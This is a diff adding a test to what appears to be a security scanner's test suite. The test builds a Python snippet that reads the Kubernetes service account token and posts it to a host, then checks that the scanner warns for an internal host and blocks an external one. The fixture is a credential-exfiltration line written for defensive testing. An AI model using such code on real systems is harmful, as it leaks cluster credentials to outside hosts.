@@ -153,6 +153,15 @@ test.each([
   expect(await sent("scripts/run.py", IMPORTS + code)).toStrictEqual([]);
 });
 
+test("warns of a login that goes to a machine of the user's own network", async () => {
+  const login = (host: string) =>
+    `jwt = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()\nrequests.post("https://${host}/v1/auth", json={"jwt": jwt})`;
+  expect(await sent("scripts/run.py", IMPORTS + login("vault.internal"))).toStrictEqual(["warn secret_exfiltration:4"]);
+  expect(await sent("scripts/run.py", IMPORTS + login("vault.loghub.biz"))).toStrictEqual([
+    "block secret_exfiltration:3",
+  ]);
+});
+
 test("follows data from one file of the package into another", async () => {
   const { findings } = await reviewPackage(
     packageOf({
